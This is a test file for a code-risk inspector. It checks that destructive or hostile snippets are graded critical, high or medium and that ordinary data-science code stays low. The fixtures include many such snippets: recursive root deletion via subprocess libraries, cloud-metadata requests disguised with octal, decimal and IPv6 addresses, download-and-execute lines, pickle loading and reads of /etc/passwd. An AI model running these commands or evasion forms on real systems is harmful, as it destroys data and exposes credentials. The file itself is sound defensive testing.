import { describe, expect, it } from 'vitest'
import type { Language, RiskLevel } from '../contract/run.ts'
import { inspectCode } from './inspect.ts'

/** Ways round the tables that were open once; a reviewer relies on each. */
const programs: readonly (readonly [Language, RiskLevel, string])[] = [
  ['javascript', 'critical', "await fetch(new URL('/latest/meta-data/', 'http://169.254.169.254'))"],
  ['javascript', 'critical', "const u = new URL('latest/', 'http://169.254.169.254/'); await fetch(u.href)"],
  ['javascript', 'critical', "fetch(new Request(new URL('/latest/', 'http://169.254.169.254')))"],
  [
    'python',
    'critical',
    "import requests\nfrom urllib.parse import urljoin\nrequests.get(urljoin('http://169.254.169.254', '/latest/'))",
  ],
  ['python', 'critical', "import asyncio.subprocess\nawait asyncio.subprocess.create_subprocess_shell('rm -rf /')"],
  ['python', 'critical', "import asyncio\nawait asyncio.subprocess.create_subprocess_exec('rm', '-rf', '/')"],
  ['python', 'critical', "import asyncio\nasyncio.get_event_loop().subprocess_shell(P, 'rm -rf /')"],
  ['python', 'critical', "import asyncio\nloop = asyncio.new_event_loop()\nloop.subprocess_exec(P, 'rm', '-rf', '/')"],
  ['python', 'critical', "from sh import rm\nrm('-rf', '/')"],
  ['python', 'critical', "import sh\nsh.rm('-rf', '/')"],
  ['python', 'medium', "import sh\nsh.Command('rm')('-rf', '/')"],
  ['python', 'critical', "from plumbum.cmd import rm\nrm('-rf', '/')"],
  ['python', 'medium', "from plumbum import local\nlocal['rm']['-rf', '/']()"],
  ['python', 'high', "import fsspec\nfsspec.filesystem('file').rm('/data', recursive=True)"],
  ['python', 'high', "import s3fs\nfs = s3fs.S3FileSystem()\nfs.rm('s3://bucket/data', recursive=True)"],
  ['python', 'high', "import s3fs\ns3fs.S3FileSystem().put('secrets.csv', 's3://bucket/x')"],
  ['python', 'high', "from pyarrow import fs\nfs.LocalFileSystem().delete_dir('/data')"],
  ['python', 'critical', 'import duckdb\nduckdb.sql("COPY t TO \'/etc/passwd\'")'],
  ['python', 'high', 'import duckdb\nduckdb.connect().execute("COPY (SELECT 1) TO \'s3://other/x.csv\'")'],
  ['python', 'high', 'import duckdb\nduckdb.sql("SELECT * FROM read_csv(\'/etc/passwd\')")'],
  ['javascript', 'high', "const Module = require('module'); new Module('x')._compile(code, 'x.js')"],
  ['javascript', 'critical', "module._compile(\"require('fs').rmSync('/', { recursive: true })\", 'x')"],
  ['typescript', 'medium', 'Deno.run(options)'],
  ['typescript', 'medium', 'const o = { cmd: words }; Deno.run(o)'],
  ['bash', 'medium', 'read -r c; $c'],
  ['bash', 'medium', 'while read -r c; do $c; done < cmds.txt'],
  ['bash', 'medium', 'bash cmds.txt'],
  [
    'python',
    'high',
    "import urllib.request, joblib\nurllib.request.urlretrieve('https://a.org/m', 'm.pkl')\njoblib.load('m.pkl')",
  ],
  [
    'python',
    'high',
    "import requests, pickle\nopen('m', 'wb').write(requests.get(u).content)\npickle.load(open('m', 'rb'))",
  ],
  ['python', 'high', "import os, joblib\nos.system('wget -O m.pkl https://a.org/m')\njoblib.load('m.pkl')"],
  ['python', 'high', "import ctypes\nctypes.CDLL(None).system(b'id')"],
  ['python', 'critical', "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'rm -rf /')"],
  ['javascript', 'high', "process.binding('spawn_sync').spawn(options)"],
  ['javascript', 'critical', "const { URL: U } = require('url'); fetch(new U('/x', 'http://169.254.169.254'))"],
  ['javascript', 'critical', "fetch(URL.parse('/x', 'http://169.254.169.254'))"],
  ['javascript', 'critical', "fetch(require('url').resolve('http://169.254.169.254', '/x'))"],
  ['javascript', 'critical', "const u = new URL('https://ok.org/x'); u.hostname = '169.254.169.254'; fetch(u)"],
  ['javascript', 'critical', "const u = new URL('https://ok.org/x'); u.href = 'http://169.254.169.254/'; fetch(u)"],
  ['javascript', 'critical', "const axios = require('axios'); axios.get('/x', { baseURL: 'http://169.254.169.254' })"],
  [
    'javascript',
    'critical',
    "const axios = require('axios'); axios.create({ baseURL: 'http://169.254.169.254' }).get('/x')",
  ],
  ['javascript', 'critical', "fetch('http://[::ffff:169.254.169.254]/latest')"],
  ['javascript', 'critical', "fetch('http://0251.0376.0251.0376/latest')"],
  ['javascript', 'critical', "fetch('http://2852039166/latest')"],
  ['python', 'critical', "import httpx\nhttpx.Client(base_url='http://169.254.169.254').get('/latest')"],
  ['python', 'critical', "import aiohttp\naiohttp.ClientSession('http://169.254.169.254').get('/latest')"],
  [
    'python',
    'critical',
    "import requests\nfrom urllib.parse import urlunsplit\nrequests.get(urlunsplit(('http', '169.254.169.254', '/', '', '')))",
  ],
  ['python', 'critical', "import anyio\nawait anyio.run_process('rm -rf /')"],
  ['python', 'critical', "import trio\nawait trio.run_process(['rm', '-rf', '/'])"],
  ['python', 'critical', "import psutil\npsutil.Popen(['rm', '-rf', '/'])"],
  ['python', 'critical', "from invoke import Context\nContext().run('rm -rf /')"],
  ['python', 'critical', "from sh import contrib\ncontrib.sudo('rm', '-rf', '/')"],
  ['python', 'medium', "from plumbum.cmd import rm\nrm['-rf', '/'] & FG"],
  ['python', 'medium', "from plumbum import SshMachine\nSshMachine('h')['rm']('-rf', '/')"],
  ['python', 'high', "import fsspec\nfs, p = fsspec.core.url_to_fs('/data')\nfs.rm('/data', recursive=True)"],
  ['python', 'high', "from pyarrow import fs\nf, p = fs.FileSystem.from_uri('s3://b/x')\nf.delete_dir('b/x')"],
  ['python', 'high', "from pyarrow import fs\nfs.copy_files('/data', 's3://other/x')"],
  ['javascript', 'high', "new (require('vm').SourceTextModule)(code)"],
  ['javascript', 'high', "require('/tmp/x.node')"],
  ['javascript', 'medium', "require.extensions['.js'](module, '/tmp/x.js')"],
  ['javascript', 'critical', "require('node-pty').spawn('bash', ['-c', 'rm -rf /'])"],
  ['bash', 'medium', 'c=$(<cmds.txt); $c'],
  ['bash', 'medium', 'read -ra c; "${c[@]}"'],
  ['bash', 'medium', 'read; $REPLY'],
  ['bash', 'medium', 'bash < cmds.txt'],
  ['bash', 'medium', 'bash <(cat cmds.txt)'],
  ['bash', 'medium', 'parallel < cmds.txt'],
  ['bash', 'high', 'parallel rm < names'],
  ['bash', 'medium', 'perl data.txt'],
  [
    'python',
    'high',
    "import subprocess, joblib\nsubprocess.run(['curl', '-o', 'm.pkl', 'https://a.org/m'])\njoblib.load('m.pkl')",
  ],
  ['python', 'high', "import boto3, joblib\nboto3.client('s3').download_file('b', 'k', 'm.pkl')\njoblib.load('m.pkl')"],
  [
    'python',
    'high',
    "from huggingface_hub import hf_hub_download\nimport joblib\njoblib.load(hf_hub_download('a/b', 'm.pkl'))",
  ],
  ['python', 'medium', "import sqlite3\nsqlite3.connect('x').load_extension('/tmp/x.so')"],
  ['bash', 'critical', 'curl -o "$dir/run.sh" https://a.org/x; bash "$dir/run.sh"'],
  ['bash', 'critical', 'x="rm$$"; ${x%%[0-9]*} -rf /'],
  ['python', 'critical', 'import countersign.jail as j\nj.libc.system(b"id")'],
  ['python', 'critical', "import sys\nsys.modules['countersign']"],
]

const ordinary: readonly (readonly [Language, string])[] = [
  ['python', "import pandas as pd\ndf = pd.read_csv('a.csv')\nprint(df.groupby('a').sum())"],
  [
    'python',
    'import numpy as np\nfrom sklearn.linear_model import LinearRegression\nLinearRegression().fit(np.eye(2), [1, 2])',
  ],
  ['python', "import requests\nprint(requests.get('https://example.org/a.json').json())"],
  ['python', 'import duckdb\nduckdb.query("SELECT * FROM \'data.parquet\'").df()'],
  ['python', "import joblib\nmodel = joblib.load('model.pkl')"],
  ['python', 'import asyncio\nasyncio.run(main())'],
  ['python', "import s3fs\nprint(s3fs.S3FileSystem().ls('s3://bucket/data'))"],
  ['javascript', "const r = await fetch(new URL('/api/items', 'https://api.example.org'))"],
  ['bash', 'bash run.sh\n"$1" --version'],
  ['bash', 'while read -r name; do echo "$name"; done < names.txt'],
]

describe('what once went past the tables', () => {
  it.each(programs)('%s is %s: %s', async (language, level, code) => {
    expect((await inspectCode(code, language)).risk).toBe(level)
  })

  it.each(ordinary)('and ordinary %s stays low: %s', async (language, code) => {
    const { risk, impact } = await inspectCode(code, language)
    expect(risk).toBe('low')
    expect(impact.unknownCalls).toBeUndefined()
  })
})

describe('a file of a program of its own', () => {
  it.each(['perl a.pl', 'awk -f a.awk table', 'sed -f a.sed table'])('is unknown in its impact: %s', async code => {
    const { impact } = await inspectCode(code, 'bash')
    expect(impact.reversible).toBe('unknown')
  })

  it('reaches the network when it lies there', async () => {
    const { impact } = await inspectCode("from smart_open import open\nopen('s3://b/x', 'w').write('s')", 'python')
    expect(impact.blastRadius).toBe('network')
  })
})

describe('a call into a library of which nothing is known', () => {
  it.each<[Language, string, string]>([
    ['python', "import somelib\nsomelib.destroy('x')", "somelib.destroy('x')"],
    ['python', 'from somelib.deep import Thing\nThing().go()', 'Thing()'],
    ['javascript', "import lib from 'some-lib'\nlib.wipe('x')", "lib.wipe('x')"],
    ['typescript', "const { wipe } = require('@scope/lib'); wipe()", 'wipe()'],
    ['javascript', "import { wipe } from './local.js'\nwipe()", 'wipe()'],
    ['python', 'import duckdb\nduckdb.sql(query)', 'duckdb.sql(query)'],
    ['python', "exec('import somelib\\nsomelib.destroy()')", "exec('import somelib\\nsomelib.destroy()')"],
  ])('in %s says that the impact is not known: %s', async (language, code, expression) => {
    const { risk, impact } = await inspectCode(code, language)
    expect(impact).toMatchObject({ reversible: 'unknown', blastRadius: 'unknown', volume: 'unknown' })
    expect(impact.unknownCalls?.map(call => call.expression)).toContain(expression)
    expect(risk).toBe('low')
  })

  it('keeps what is known of the rest', async () => {
    const code = "import somelib, shutil\nsomelib.go()\nshutil.rmtree('/data')"
    const { impact } = await inspectCode(code, 'python')
    expect(impact).toMatchObject({ reversible: 'no', blastRadius: 'local' })
    expect(impact.filesDeleted).toMatchObject([{ target: '/data' }])
  })

  it('does not call a request undoable that has been sent', async () => {
    const { impact } = await inspectCode(
      "import urllib.request\nurllib.request.urlopen('https://example.org/a')",
      'python',
    )
    expect(impact.reversible).not.toBe('yes')
  })

  it('is no variable of an earlier cell, and no function of the program', async () => {
    const { impact } = await inspectCode('def f():\n    return 1\nf()\ntable.head()', 'python')
    expect(impact).toMatchObject({ reversible: 'yes', blastRadius: 'contained', volume: 'none' })
  })
})

it('does not take a variable of the environment for the name of a file', async () => {
  const { impact } = await inspectCode("import shutil, os\nshutil.rmtree(os.path.expandvars('$TMPDIR/x'))", 'python')
  expect(impact.filesDeleted).toMatchObject([{ target: null }])
  expect(impact).toMatchObject({ reversible: 'no', blastRadius: 'local' })
})
